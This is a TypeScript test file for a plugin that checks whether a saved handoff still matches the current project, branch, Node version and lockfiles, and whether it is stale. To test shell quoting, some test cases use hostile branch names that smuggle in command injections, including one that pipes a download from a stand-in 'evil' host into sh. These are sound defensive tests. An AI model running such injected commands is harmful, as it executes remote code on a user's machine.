import { describe, expect, it } from 'vitest';
import { assessStaleness, checkCompatibility, type World } from '../../scripts/core/git/compatibility.ts';
import { makeState } from '../helpers/fixtures.ts';

// makeState: project /home/dev/app, branch fix/login-safari, plugin 0.1.0, Node v20.0.0
const same: World = {
  projectDir: '/home/dev/app',
  branch: 'fix/login-safari',
  pluginVersion: '0.1.0',
  nodeVersion: 'v20.0.0',
  lockfiles: { 'package-lock.json': 'a'.repeat(64) },
};
const state = makeState({ lockfiles: { 'package-lock.json': 'a'.repeat(64) } });

describe('checkCompatibility', () => {
  it('is all ok in the world the handoff was written in', () => {
    const rows = checkCompatibility(state, same);
    expect(rows.map((r) => [r.check, r.level])).toEqual([
      ['project path', 'ok'],
      ['branch', 'ok'],
      ['plugin version', 'ok'],
      ['Node version', 'ok'],
      ['package-lock.json', 'ok'],
    ]);
  });

  it.each<[string, Partial<World>, string, 'changed' | 'warning', RegExp]>([
    ['another clone', { projectDir: '/home/ada/app' }, 'project path', 'changed', /relative to the project/],
    ['another branch', { branch: 'main' }, 'branch', 'warning', /git switch fix\/login-safari/],
    ['a newer plugin', { pluginVersion: '0.2.0' }, 'plugin version', 'changed', /^$/],
    ['a Node patch release', { nodeVersion: 'v20.11.1' }, 'Node version', 'changed', /^$/],
    ['another Node major', { nodeVersion: 'v22.1.0' }, 'Node version', 'warning', /native modules/],
    ['a changed lockfile', { lockfiles: { 'package-lock.json': 'b'.repeat(64) } }, 'package-lock.json', 'warning', /reinstall/],
    ['a removed lockfile', { lockfiles: {} }, 'package-lock.json', 'warning', /removed/],
  ])('%s → %s is %s', (_name, change, check, level, note) => {
    const row = checkCompatibility(state, { ...same, ...change }).find((r) => r.check === check);
    expect(row?.level).toBe(level);
    expect(row?.note).toMatch(note);
  });

  // the command is offered to Claude, which may run it as written; the branch comes from the state
  it.each<[string, string]>([
    ['release/2.0', 'switch back with: git switch release/2.0'],
    ['main;curl$IFS.evil|sh', "switch back with: git switch 'main;curl$IFS.evil|sh'"],
    ["it's`id`", "switch back with: git switch 'it'\\''s`id`'"],
    ['--orphan=x', 'the handoff named a branch git does not allow (it starts with a dash)'],
  ])('offers a branch named %j as %j', (branch, note) => {
    const handedOff = makeState({ lockfiles: same.lockfiles });
    const row = checkCompatibility({ ...handedOff, git: handedOff.git && { ...handedOff.git, branch } }, same).find((r) => r.check === 'branch');
    expect(row?.note).toBe(note);
  });

  it('reports a lockfile that appeared since the handoff', () => {
    const rows = checkCompatibility(state, { ...same, lockfiles: { ...same.lockfiles, 'yarn.lock': 'c'.repeat(64) } });
    expect(rows.find((r) => r.check === 'yarn.lock')).toMatchObject({ at_handoff: 'absent', level: 'warning' });
  });
});

describe('assessStaleness', () => {
  const now = new Date('2026-03-20T12:00:00Z');
  it.each<[string, string, number, number, string[]]>([
    ['fresh, nothing landed', '2026-03-20T09:00:00Z', 0, 7, []],
    ['old', '2026-03-10T12:00:00Z', 0, 7, ['handed off 10 days ago (stale after 7)']],
    ['exactly at the limit', '2026-03-13T12:00:00Z', 0, 7, ['handed off 7 days ago (stale after 7)']],
    ['a commit landed', '2026-03-20T09:00:00Z', 1, 7, ['1 commit landed since the handoff']],
    ['both', '2026-03-01T12:00:00Z', 3, 14, ['handed off 19 days ago (stale after 14)', '3 commits landed since the handoff']],
  ])('%s', (_name, at, commits, days, reasons) => {
    expect(assessStaleness(at, commits, days, now)).toEqual({ stale: reasons.length > 0, reasons });
  });
});
